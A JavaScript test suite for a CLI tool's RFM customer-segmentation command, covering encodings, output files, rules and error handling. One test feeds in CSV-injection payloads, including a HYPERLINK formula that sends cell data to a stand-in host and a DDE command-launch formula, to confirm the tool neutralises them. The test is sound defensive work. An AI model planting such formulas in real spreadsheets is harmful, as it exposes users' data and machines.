// fieldbook rfm: the CLI contract (one JSON object: customers, orders, revenue, thresholds,
// segments[{name, label, customers, orders, revenue}]) on the R rfm package's data, Chinese
// GBK and UTF-8-with-BOM exports, customer-level files, --out, and refusals.
import { test } from 'node:test';
import assert from 'node:assert/strict';
import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { runCli, runCliJson, sharedData } from './run.mjs';

const orders = path.join(sharedData, 'rfm/rfm_data_orders.csv');
const customersFile = path.join(sharedData, 'rfm/rfm_data_customer.csv');
const tmp = fs.mkdtempSync(path.join(os.tmpdir(), 'fieldbook-rfm-'));

function write(name, content) {
  const p = path.join(tmp, name);
  fs.writeFileSync(p, content);
  return p;
}

// Published by the rfm package: article "RFM - Introduction" (rfm 0.3.0.9000, pkgdown,
// docs/articles/rfm-introduction.html), rfm_segment_summary() for rfm_data_orders with
// analysis_date 2006-12-31.
const published = {
  'About To Sleep': [102, 283, 23449],
  'At Risk': [28, 216, 22227],
  "Can't Lose Them": [47, 274, 32446],
  Champions: [35, 316, 31646],
  Lost: [148, 393, 35324],
  'Loyal Customers': [170, 799, 76562],
  'Need Attention': [10, 57, 4562],
  'New Customers': [104, 329, 28837],
  'Potential Loyalist': [342, 2211, 204856],
  Promising: [9, 28, 4249],
};

test('rfm reproduces the rfm package published segment summary', () => {
  const r = runCliJson(['rfm', orders, '--analysis-date=2006-12-31']);
  assert.equal(r.customers, 995);
  assert.equal(r.orders, 4906);
  assert.equal(r.revenue, 464158);
  assert.deepEqual(r.thresholds.recency.lower.slice(1).map((x) => Math.round(x * 10) / 10), [115, 181, 297.4, 482]);
  assert.deepEqual(r.thresholds.frequency.lower, [1, 4, 5, 6, 8]);
  for (const [name, [customers, ordersN, revenue]] of Object.entries(published)) {
    const s = r.segments.find((x) => x.name === name);
    assert.ok(s, name);
    assert.deepEqual([s.customers, s.orders, s.revenue], [customers, ordersN, revenue], name);
    assert.equal(s.label, name);
  }
  assert.equal(r.segments.find((x) => x.name === 'Others'), undefined);
});

test('the default analysis date is the day after the newest order', () => {
  const r = runCliJson(['rfm', orders]);
  assert.equal(r.analysisDate, '2006-12-31');
});

const gbk = Buffer.from(
  'bfcdbba7c3fbb3c62cb6a9b5a5c8d5c6da2ccffacadbb6ee2cd0d0d2b50ad5c5c8fd2c323032342f332f352c22a3a4312c3230302e3530222cd5feb8ae0ac0eecbc42c32303234c4ea33d4c236c8d52c3830302cbfc6bcbc0ad5c5c8fd2c323032342d30342d30312c28323030292cd5feb8ae0acdf5cee52c323032342f30342f30322c3330302cbfc6bcbc0a',
  'hex');
const utf8Text =
  '客户名称,订单日期,销售额,行业\n张三,2024/3/5,"￥1,200.50",政府\n李四,2024年3月6日,800,科技\n' +
  '张三,2024-04-01,(200),政府\n王五,2024/04/02,300,科技\n';

test('a GBK export and a UTF-8-with-BOM export give identical results', () => {
  const g = runCliJson(['rfm', write('gbk.csv', gbk), '--bins=2', '--rules=abc', '--lang=zh']);
  const u = runCliJson(['rfm', write('bom.csv', Buffer.concat([Buffer.from([0xef, 0xbb, 0xbf]), Buffer.from(utf8Text)])),
    '--bins=2', '--rules=abc', '--lang=zh']);
  assert.equal(g.encoding, 'gb18030');
  assert.equal(u.encoding, 'utf-8-bom');
  delete g.encoding;
  delete u.encoding;
  assert.deepEqual(g, u);
  assert.equal(u.customers, 3);
  assert.equal(u.orders, 3); // the (200) return counts in revenue, not as an order
  assert.equal(u.revenue, 2100.5);
  assert.equal(u.columns.customer, '客户名称');
  assert.ok(u.segments.some((s) => s.label.startsWith('A类')));
  assert.ok(u.segments.every((s) => typeof s.name === 'string' && /^[ABC] · /.test(s.name)));
});

test('Chinese column names can be given explicitly', () => {
  const p = write('zh.csv', utf8Text);
  const r = runCliJson(['rfm', p, '--customer=客户名称', '--date=订单日期', '--amount=销售额', '--returns-as-orders']);
  assert.equal(r.orders, 4);
  const bad = runCli(['rfm', p, '--customer=客户编号']);
  assert.equal(bad.status, 1);
  assert.match(bad.stderr, /no column "客户编号"/);
});

test('customer-level file: --date is the last order date and --orders the order count', () => {
  const r = runCliJson(['rfm', customersFile, '--level=customer', '--customer=customer_id',
    '--date=most_recent_visit', '--orders=number_of_orders', '--amount=revenue', '--analysis-date=2007-01-01']);
  assert.equal(r.level, 'customer');
  assert.equal(r.customers, 39999);
  assert.equal(r.columns.date, 'most_recent_visit');
  assert.equal(r.columns.recency, undefined);
  const viaRecency = runCliJson(['rfm', customersFile, '--analysis-date=2007-01-01']);
  assert.equal(viaRecency.columns.recency, 'recency_days');
  // The file's recency_days were computed against 2007-01-01, so both give the same scores.
  assert.deepEqual(viaRecency.thresholds, r.thresholds);
  assert.deepEqual(viaRecency.segments, r.segments);
});

test('--out writes the segmented customers as UTF-8 CSV with a BOM; --thresholds-out the thresholds, one table per file', () => {
  const out = path.join(tmp, 'customers.csv');
  const thresholdsOut = path.join(tmp, 'thresholds.csv');
  const r = runCliJson(['rfm', orders, '--analysis-date=2006-12-31', `--out=${out}`, `--thresholds-out=${thresholdsOut}`, '--lang=zh']);
  const bytes = fs.readFileSync(out);
  assert.deepEqual([...bytes.subarray(0, 3)], [0xef, 0xbb, 0xbf]);
  const lines = bytes.subarray(3).toString('utf8').split('\r\n');
  assert.match(lines[0], /^customer_id,name,industry,region,rep,first_order,last_order,recency_days,frequency,monetary,r_score,f_score,m_score,rfm_score,segment,segment_label,action$/);
  const abbey = lines.find((l) => l.startsWith("Abbey O'Reilly,"));
  assert.ok(abbey);
  assert.match(abbey, /,205,6,472,3,4,3,343,Potential Loyalist,潜在忠诚客户,/);
  // One table: a header and one row per customer, every row with the header's 17 columns.
  assert.equal(lines.at(-1), '');
  assert.equal(lines.length - 2, 995);
  for (const line of lines.slice(0, -1)) assert.equal(line.split(',').length, 17, line);
  assert.equal(r.segments.find((s) => s.name === 'Champions').label, '冠军客户');

  const t = fs.readFileSync(thresholdsOut);
  assert.deepEqual([...t.subarray(0, 3)], [0xef, 0xbb, 0xbf]);
  const rows = t.subarray(3).toString('utf8').split('\r\n').filter(Boolean).map((l) => l.split(','));
  assert.deepEqual(rows[0], ['dimension', 'score', 'lower', 'upper', 'customers', 'method', 'analysis_date']);
  const frequency = rows.filter((row) => row[0] === 'frequency');
  assert.deepEqual(frequency.map((row) => Number(row[2])), r.thresholds.frequency.lower);
  assert.deepEqual(frequency.map((row) => Number(row[4])), r.thresholds.frequency.counts);
  assert.ok(rows.slice(1).every((row) => row.length === 7 && row[6] === '2006-12-31'));
});

test('customer names that spreadsheets would run as formulas are written as text (OWASP CSV injection)', () => {
  const names = ['=HYPERLINK("http://example.invalid/?"&A1,"点这里")', '+SUM(1+1)', '-2+3', '@SUM(1+1)', '=cmd|\' /C calc\'!A0'];
  const csv = 'customer,date,amount\n' + names.map((n, i) => `"${n.replaceAll('"', '""')}",2024-01-0${i + 1},${i + 1}0\n`).join('') +
    'plain,2024-01-09,-20\n';
  const out = path.join(tmp, 'injection-out.csv');
  runCliJson(['rfm', write('injection.csv', csv), '--analysis-date=2024-02-01', '--bins=2', '--on-error=skip', `--out=${out}`]);
  const text = fs.readFileSync(out).subarray(3).toString('utf8');
  for (const n of names) {
    const quoted = `'${n}`.includes(',') || n.includes('"') ? `"'${n.replaceAll('"', '""')}"` : `'${n}`;
    assert.ok(text.includes(`\r\n${quoted},`), `${JSON.stringify(n)} is not written as text`);
  }
  // Numbers stay numbers: a return's negative amount has no apostrophe.
  assert.match(text, /\r\nplain,(?:[^,]*,){8}-20,/);
});

test('--method=rank gives equal-count bins', () => {
  const r = runCliJson(['rfm', orders, '--method=rank']);
  assert.equal(r.method, 'rank');
  assert.deepEqual(r.thresholds.monetary.counts, [199, 199, 199, 199, 199]);
});

test('custom rules from a JSON file', () => {
  const rules = write('rules.json', JSON.stringify({
    id: 'mine', rules: [{ nameEn: 'Top', nameZh: '顶级', r: [4, 5], f: [4, 5], m: [4, 5] }],
  }));
  const r = runCliJson(['rfm', orders, `--rules=${rules}`]);
  assert.equal(r.rules, 'mine');
  assert.equal(r.segments[0].name, 'Top');
  assert.equal(r.segments[1].name, 'Others');
  assert.equal(r.segments[0].customers + r.segments[1].customers, 995);
  const bad = runCli(['rfm', orders, `--rules=${write('bad.json', '{"rules":[{"nameEn":"x","r":[6,1]}]}')}`]);
  assert.equal(bad.status, 1);
  assert.match(bad.stderr, /rules\[0\]\.r/);
});

test('ambiguous day/month dates are a question answered by --date-order', () => {
  const p = write('dm.csv', 'customer,date,amount\na,03/04/2024,10\nb,05/06/2024,20\n');
  const q = runCli(['rfm', p]);
  assert.equal(q.status, 1);
  assert.match(q.stderr, /--date-order/);
  const r = runCliJson(['rfm', p, '--date-order=dmy']);
  assert.equal(r.analysisDate, '2024-06-06');
  const m = runCliJson(['rfm', p, '--date-order=mdy']);
  assert.equal(m.analysisDate, '2024-05-07');
});

test('bad rows are reported with line, column, value and reason; --on-error=stop refuses', () => {
  const p = write('bad.csv', 'customer,date,amount\na,2024-01-01,10\nb,someday,5\nc,2024-01-03,7\n');
  const r = runCli(['rfm', p]);
  assert.equal(r.status, 0);
  const j = JSON.parse(r.stdout);
  assert.equal(j.customers, 2);
  assert.equal(j.badRows, 1);
  assert.deepEqual(
    { line: j.errors[0].line, column: j.errors[0].column, columnName: j.errors[0].columnName, value: j.errors[0].value },
    { line: 3, column: 2, columnName: 'date', value: 'someday' });
  assert.match(r.stderr, /skipped 1 bad row/);
  const s = runCli(['rfm', p, '--on-error=stop']);
  assert.equal(s.status, 1);
  assert.match(s.stderr, /line 3/);
});

test('refusals: usage errors exit 2, unreadable or empty input exits 1', () => {
  assert.equal(runCli(['rfm']).status, 2);
  assert.equal(runCli(['rfm', orders, '--bins=10']).status, 2);
  assert.equal(runCli(['rfm', orders, '--method=median']).status, 2);
  assert.equal(runCli(['rfm', orders, '--frobnicate']).status, 2);
  assert.equal(runCli(['rfm', path.join(tmp, 'missing.csv')]).status, 1);
  const empty = runCli(['rfm', write('empty.csv', '')]);
  assert.equal(empty.status, 1);
  assert.match(empty.stderr, /empty/);
  const header = runCli(['rfm', write('header.csv', 'customer,date,amount\n')]);
  assert.equal(header.status, 1);
  assert.match(header.stderr, /no data rows/);
  const binary = runCli(['rfm', write('bin.csv', Buffer.from([0x7f, 0x45, 0x4c, 0x46, 0, 0, 1, 2, 3, 0, 0xff]))]);
  assert.equal(binary.status, 1);
});

test('--help lists rfm', () => {
  const r = runCli(['--help']);
  assert.match(r.stdout, /fieldbook rfm FILE\.csv/);
});
